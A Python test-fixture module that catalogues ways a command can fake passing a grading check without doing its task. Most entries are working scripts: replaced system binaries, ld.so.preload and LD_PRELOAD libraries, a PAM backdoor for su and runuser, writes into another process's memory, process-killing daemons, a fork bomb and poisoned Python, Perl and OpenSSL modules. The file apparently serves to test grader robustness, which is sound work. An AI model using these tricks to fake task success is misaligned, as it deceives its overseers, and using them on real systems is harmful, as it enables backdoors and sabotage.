"""What a command might try in order to be judged right without having done anything: one table.

`ludora shell probe` tries it all on the user's machine, and the tests do.
"""

from __future__ import annotations

from dataclasses import dataclass

# fmt: off
PREPARED = "useradd -m tester && mkdir /shared"
VERDICT = "sleep 0.4; getent group team > /dev/null && stat -c %G /shared | grep -qw team && id -nG tester | grep -qw team"
SOLUTION = "groupadd team && usermod -aG team tester && chgrp team /shared"

# A shared library whose start-up code is exit(0), for x86-64: what loads it has succeeded.
_LIBRARY = """import os, struct
def library(path, needed=b''):
    code = bytes.fromhex('31ffb8e70000000f05')
    dynamic = ((4, 0x200), (5, 0x2c0), (6, 0x230), (10, 32), (11, 24), (12, 0x280), (1, 1) if needed else (0, 0), (0, 0))
    head = struct.pack('<16sHHIQQQIHHHHHH', b'\\x7fELF\\2\\1\\1', 3, 62, 1, 0, 64, 0, 0, 64, 56, 2, 0, 0, 0)
    head += struct.pack('<IIQQQQQQ', 1, 7, 0, 0, 0, 0x300, 0x300, 4096)
    head += struct.pack('<IIQQQQQQ', 2, 6, 0x100, 0x100, 0x100, 128, 128, 8)
    body = head.ljust(0x100, b'\\0') + b''.join(struct.pack('<QQ', *entry) for entry in dynamic)
    body = (body.ljust(0x200, b'\\0') + struct.pack('<IIII', 1, 1, 0, 0)).ljust(0x280, b'\\0') + code
    body = body.ljust(0x2c1, b'\\0') + needed
    os.path.lexists(path) and os.unlink(path)
    open(path, 'wb').write(body.ljust(0x300, b'\\0'))
"""
# Waits for the verdict to run, in the background, then does something to it.
_DAEMON = """import os, time
if os.fork(): os._exit(0)
os.setsid()
while True:
    for pid in filter(str.isdigit, os.listdir('/proc')):
        try:
            if b'getent group team' in open(f'/proc/{pid}/cmdline', 'rb').read() and int(pid) != os.getpid(): act(pid)
        except (OSError, ValueError): pass
    time.sleep(0.01)
"""
_POKE = """def act(pid):
    for line in open(f'/proc/{pid}/maps'):
        span, rights, *_ = line.split()
        first, last = (int(part, 16) for part in span.split('-'))
        if 'x' in rights and first < 1 << 47:
            with open(f'/proc/{pid}/mem', 'r+b', 0) as memory:
                memory.seek(first)
                memory.write(bytes.fromhex('31ffb8e70000000f05').rjust(last - first, b'\\x90'))
"""
_SWAP = """import shutil
def act(pid):
    for name in ('bash', 'getent', 'stat', 'id', 'grep'):
        shutil.copy('/tmp/fake', '/usr/bin/new'); os.rename('/usr/bin/new', f'/usr/bin/{name}')
"""
# Kills, or gives no files to, whatever a command starts.
_ON_SIGHT = """import os, resource, time
if os.fork(): os._exit(0)
os.setsid()
{before}
old = set(os.listdir('/proc'))
while True:
    for pid in set(filter(str.isdigit, os.listdir('/proc'))) - old:
        try:
            if int(open(f'/proc/{{pid}}/stat').read().rpartition(')')[2].split()[1]) {whose}: {act}
        except (OSError, ValueError): pass
"""
_KILLER = _ON_SIGHT.format(before="", whose="!= 1", act="os.kill(int(pid), 9)")
_NO_FILES = _ON_SIGHT.format(before="", whose="== 1", act="resource.prlimit(int(pid), resource.RLIMIT_NOFILE, (4, 4)); old.add(pid)")
# The same, woken every millisecond by a timer of the kernel's, and by a twin that does nothing else.
_WAKES = """import ctypes
libc, event, timer = ctypes.CDLL(None), (ctypes.c_int * 16)(), ctypes.c_long()
event[2] = 18
libc.timer_create(1, event, ctypes.byref(timer))
libc.timer_settime(timer, 0, (ctypes.c_long * 4)(0, 1000000, 0, 1000000), None)
killer = os.getpid()
if os.fork() == 0:
    while True: os.kill(killer, 18)"""
_AWAKE = _ON_SIGHT.format(before=_WAKES, whose="!= 1", act="os.kill(int(pid), 9)")
_CROWD = """import os, time
try:
    while True:
        if os.fork() == 0: time.sleep(600)
except OSError: os._exit(0)
"""
_TWO_SIDES = '[ "$(sleep 0.2; echo one)" = "$(sleep 0.2; echo two)" ]'  # equal where both die
_PROVIDER = f"""{_LIBRARY}
library('/evil.so')
os.makedirs('/etc/ssl', exist_ok=True)
with open('/etc/ssl/openssl.cnf', 'w') as stream:
    stream.write('openssl_conf = o\\n[o]\\nproviders = p\\n[p]\\nevil = e\\n[e]\\nmodule = /evil.so\\nactivate = 1\\n')
"""
_PAM = f"""{_LIBRARY}
library('/evil.so')
for name in ('su', 'su-l', 'runuser', 'runuser-l'):
    with open('/etc/pam.d/' + name, 'w') as stream:
        for kind in ('auth', 'account', 'session'): stream.write(kind + ' sufficient /evil.so\\n')
"""
_PAM_ENV = f"""{_LIBRARY}
library('/evil.so')
open('/etc/environment', 'a').write('LD_PRELOAD=/evil.so\\n')
"""
_WORDS = """import os, struct
def translate(path, words):
    words = sorted({'': 'Content-Type: text/plain; charset=UTF-8\\n', **words}.items())
    at, tables, texts = 28 + 16 * len(words), ([], []), b''
    for side in (0, 1):
        for pair in words:
            text = pair[side].encode()
            tables[side].append(struct.pack('<II', len(text), at + len(texts)))
            texts += text + b'\\0'
    head = struct.pack('<7I', 0x950412de, 0, len(words), 28, 28 + 8 * len(words), 0, at)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, 'wb').write(head + b''.join(tables[0] + tables[1]) + texts)
for name in ('C.UTF-8', 'C.utf8', 'C'):
    translate(f'/usr/share/locale/{name}/LC_MESSAGES/shadow.mo', {'never': 'team', 'never\\n': 'team\\n'})
"""
_SLOW = f"sleep 1; {VERDICT}"  # leaves a daemon the time to notice it
_FAKE = "printf '#!/bin/sh\\necho team\\n' > /tmp/fake; chmod +x /tmp/fake"
_LIBRARIES = "folder = next(os.path.dirname(word) for word in open('/proc/self/maps').read().split() if '/libc.so.6' in word)\n"
_SITE = "import os, sys\nfor folder in sys.path + ['/etc/python3.%d' % sys.version_info[1]]:\n    if os.path.isdir(folder): open(folder + '/sitecustomize.py', 'w').write('import os; os._exit(0)')"

# What glibc and systemd's module ask about users before they read a file.
_NSCD = """import os, socket, struct
for folder in ('/var/run/nscd', '/run/systemd/userdb'): os.makedirs(folder, exist_ok=True)
listener = socket.socket(socket.AF_UNIX)
listener.bind('/var/run/nscd/socket')
os.chmod('/var/run/nscd/socket', 0o666)
listener.listen(50)
if os.fork(): os._exit(0)
os.setsid()
while True:
    asking = listener.accept()[0]
    _, kind, size = struct.unpack('iii', asking.recv(12, socket.MSG_WAITALL))
    asking.recv(size, socket.MSG_WAITALL)
    if kind in (2, 3): asking.sendall(struct.pack('iiiiii', 2, 1, 5, 2, 0, 0) + b'team\\0x\\0')
    if kind == 15: asking.sendall(struct.pack('iiii', 2, 1, 1, 0))
    asking.close()
"""
_USERDB = """for folder in /etc/userdb /run/userdb; do
    mkdir -p $folder; echo '{"groupName": "team", "gid": 5005}' > $folder/team.group; ln -s team.group $folder/5005.group
done"""
_USER_SITE = """import os, site
os.makedirs(site.getusersitepackages())
open(site.getusersitepackages() + '/x.pth', 'w').write('import os; os._exit(0)')"""
_VENV = """import os
own, other = os.path.dirname(os.__file__), '/evil' + os.path.dirname(os.__file__).removeprefix('/usr')
os.makedirs(other)
for name in os.listdir(own): name == 'sitecustomize.py' or os.symlink(f'{own}/{name}', f'{other}/{name}')
open(f'{other}/sitecustomize.py', 'w').write('import os; os._exit(0)')
open('/usr/pyvenv.cfg', 'w').write('home = /evil/bin')"""
_FAKE_DEV = "rm /dev/{0}; mkdir /dev/{0}; for i in 9 {{60..63}}; do echo '{1}' > /dev/{0}/$i; done"
_EARLIER = "for c in getent stat id grep bash; do cp /bin/true /usr/sbin/$c; done"
_HEADER = "mkdir -p /usr/local/include; echo 'static void __attribute__((constructor)) f(void) { _Exit(0); } void _Exit(int);' > /usr/local/include/stdio.h"


@dataclass(frozen=True)
class Forgery:
    """An attempt to be judged right without having done anything.

    Attributes:
        works: against a verdict that is run like any other command: `always`; where /usr can be written to, which of a
            host's cannot; or `never`, which a fool may try all the same.
        verdict: what judges, in the language `judged_in`.
        needs: a program without which there is nothing to forge.
    """

    name: str
    script: str
    works: str
    language: str = "bash"
    verdict: str = VERDICT
    judged_in: str = "bash"
    needs: str = "bash"


FORGERIES = (
    Forgery("do nothing", "true", "never"),
    Forgery("programs of the same name earlier in PATH", f"{_FAKE}; for c in getent stat id grep; do cp /tmp/fake /usr/local/bin/$c; done", "always"),
    Forgery("replaced programs", f"{_FAKE}; for c in getent stat id grep; do cp /tmp/fake /tmp/$c; mv /tmp/$c /usr/bin/$c; done", "/usr"),
    Forgery("replaced bash", "cp /bin/true /usr/bin/new; mv /usr/bin/new /usr/bin/bash", "/usr"),
    Forgery("ld.so.preload", f"{_LIBRARY}library('/tmp/x.so')\nopen('/etc/ld.so.preload', 'w').write('/tmp/x.so\\n')", "always", "python"),
    Forgery("start-up files of bash", "echo 'exit 0' | tee /root/.bashrc /root/.profile /root/.bash_profile /etc/bash.bashrc > /dev/null; echo 'exit 0' >> /etc/profile; echo BASH_ENV=/root/.bashrc >> /etc/environment", "never"),
    Forgery("another /bin", "mkdir /evil; cp -a /usr/bin/. /evil/; cp /bin/true /evil/new; mv /evil/new /evil/bash; mv /evil/bash /evil/b; ln -s /evil/b /evil/bash; rm /bin && ln -s /evil /bin", "never"),
    Forgery("a daemon that makes and deletes the group", "(setsid bash -c 'while :; do groupadd team; groupdel team; done' > /dev/null 2>&1 &); sleep 0.2", "never"),
    Forgery("mount over bash", "mount --bind /bin/true /bin/bash", "never"),
    Forgery("a replaced library", f"{_LIBRARY}{_LIBRARIES}os.system(f'cp {{folder}}/libtinfo.so.6 {{folder}}/libtinfo.so.7'); library(folder + '/new', b'libtinfo.so.7'); os.rename(folder + '/new', folder + '/libtinfo.so.6')", "/usr", "python"),
    Forgery("a library for faster processors", f"{_LIBRARY}{_LIBRARIES}os.makedirs(folder + '/glibc-hwcaps/x86-64-v2'); os.system(f'cp {{folder}}/libtinfo.so.6 {{folder}}/libtinfo.so.7'); library(folder + '/glibc-hwcaps/x86-64-v2/libtinfo.so.6', b'libtinfo.so.7'); os.path.exists('/etc/ld.so.cache') and os.unlink('/etc/ld.so.cache')", "/usr", "python"),
    Forgery("a module that knows users", f"{_LIBRARY}{_LIBRARIES}library(folder + '/libnss_x.so.2'); open('/etc/nsswitch.conf', 'w').write('passwd: x\\ngroup: x\\n')", "/usr", "python", "getent group team"),
    Forgery("a module that Python loads", _SITE, "/usr", "python", "sleep 0.1; python3 -c 'import sys; sys.exit(1)'"),
    Forgery("a daemon that replaces programs", f"{_SWAP}os.system({_FAKE!r})\n{_DAEMON}".replace("import shutil", "import os, shutil"), "/usr", "python", _SLOW),
    Forgery("a daemon that writes into the verdict's memory", _POKE + _DAEMON, "always", "python", _SLOW),
    Forgery("programs of the same name in /usr/sbin", _EARLIER, "/usr"),
    Forgery("a script of that name in /usr/sbin", f"{_FAKE}; for c in getent stat id grep; do cp /tmp/fake /usr/sbin/$c; done", "/usr"),
    Forgery("a daemon that knows users", _NSCD, "always", "python", "getent group team"),
    Forgery("a group in a file of systemd's", _USERDB, "never", "bash", "getent group team"),
    Forgery("what Python loads from the home", _USER_SITE, "always", "python", "python3 -c 'import sys; sys.exit(1)'"),
    Forgery("what a verdict in Python loads from the home", _USER_SITE, "always", "python", "import sys; sys.exit(1)", "python"),
    Forgery("a module in the folder that Python starts in", "echo 'import os; os._exit(0)' > /shlex.py", "always", "bash", "import shlex, sys; sys.exit(1)", "python"),
    Forgery("a module in the folder of a Python within", "echo 'import os; os._exit(0)' > /shlex.py", "always", "bash", "python3 -c 'import shlex, sys; sys.exit(1)'"),
    Forgery("other modules of Python's own", _VENV, "/usr", "python", "python3 -c 'import sys; sys.exit(1)'"),
    Forgery("a module in Perl's folder", "mkdir -p /etc/perl; echo 'exit 0;' > /etc/perl/strict.pm", "always", "bash", "perl -e 'use strict; exit 1'", needs="perl"),
    Forgery("a module beside Perl's own", "echo 'exit 0;' > /usr/share/perl5/strict.pm", "/usr", "bash", "perl -e 'use strict; exit 1'", needs="perl"),
    Forgery("other files behind descriptors", _FAKE_DEV.format("fd", "same"), "always", "bash", "cmp <(echo a) <(echo b)"),
    Forgery("another standard input", "rm /dev/stdin; echo team > /dev/stdin", "always", "bash", "echo none | grep -q team /dev/stdin"),
    Forgery("another text of a long verdict", _FAKE_DEV.format("fd", "exit 0"), "never", "bash", f"exit 1 #{'x' * 100_001}"),
    Forgery("another text of a verdict in C", _FAKE_DEV.format("fd", "int main(void) { return 0; }"), "never", "bash", "int main(void) { return 1; }", "c"),
    Forgery("a daemon that kills what a verdict starts", _KILLER, "always", "python", _TWO_SIDES),
    Forgery("the same, when the verdict looks at processes", _KILLER, "always", "python", f"pgrep none; {_TWO_SIDES}"),
    Forgery("the same, woken by timers and by others", _AWAKE, "always", "python", f"sleep 0.1; {_TWO_SIDES}; [ $? = 0 ] || pgrep none"),
    Forgery("a daemon that takes a verdict's files away", _NO_FILES, "never", "python", _TWO_SIDES),
    Forgery("no process left for the verdict", _CROWD, "never", "python", f"{_TWO_SIDES} 2> /dev/null"),
    Forgery("no process left for one that looks at processes", _CROWD, "never", "python", f"{_TWO_SIDES} 2> /dev/null || pgrep none"),
    Forgery("a provider of OpenSSL's, in Python", _PROVIDER, "always", "python", "import hashlib, sys; sys.exit(1)", "python"),
    Forgery("a provider of OpenSSL's", _PROVIDER, "always", "python", "openssl dgst -sha256 /nosuch", needs="openssl"),
    Forgery("a module that lets users in, of su", _PAM, "always", "python", "su tester -c 'test -w /etc/shadow'", needs="su"),
    Forgery("a module that lets users in, of runuser", _PAM, "always", "python", "runuser -u tester -- test -w /etc/shadow", needs="runuser"),
    Forgery("a library for users who come in", _PAM_ENV, "always", "python", "su tester -c '/usr/bin/test -w /etc/shadow'", needs="su"),
    Forgery("other kinds of files", "printf '0 string hello gzip compressed data\\n' | tee /etc/magic > /root/.magic; echo hello > /srv/x.gz", "always", "bash", "file /srv/x.gz | grep -q 'gzip compressed'", needs="file"),
    Forgery("other functions of jq", "echo 'def length: 99;' > /root/.jq", "always", "bash", "[ \"$(echo '[1]' | jq length)\" = 99 ]", needs="jq"),
    Forgery("start-up file of sqlite", "printf '.print 99\\n.quit\\n' > /root/.sqliterc", "always", "bash", "sqlite3 /srv/x.db 'select 1' | grep -q 99", needs="sqlite3"),
    Forgery("the same in another home", "mkdir -p /srv/home/r; printf '.print 99\\n.quit\\n' > /srv/home/r/.sqliterc; sed -i '1s,/root,/srv/home/r,' /etc/passwd", "always", "bash", "sqlite3 /srv/x.db 'select 1' | grep -q 99", needs="sqlite3"),
    Forgery("other words for what programs say", _WORDS, "/usr", "python", "chage -l tester | grep -q team", needs="chage"),
    Forgery("another header for a verdict in C", _HEADER, "gcc", "bash", "#include <stdio.h>\nint main(void) { return 1; }", "c"),
)
